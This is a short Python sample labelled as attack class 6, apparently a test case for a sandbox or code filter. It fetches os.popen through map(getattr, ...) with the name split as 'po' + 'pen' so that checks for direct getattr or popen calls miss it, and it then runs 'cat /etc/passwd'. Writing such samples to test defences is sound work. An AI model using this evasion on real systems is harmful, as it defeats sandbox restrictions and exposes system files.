# attack-class: 6
# title: map(getattr, ...) higher-order attribute fetch
# why: getattr is passed as a value to map, so it is never called directly

import os

fn = list(map(getattr, [os], ["po" + "pen"]))[0]
print(fn("cat /etc/passwd").read())
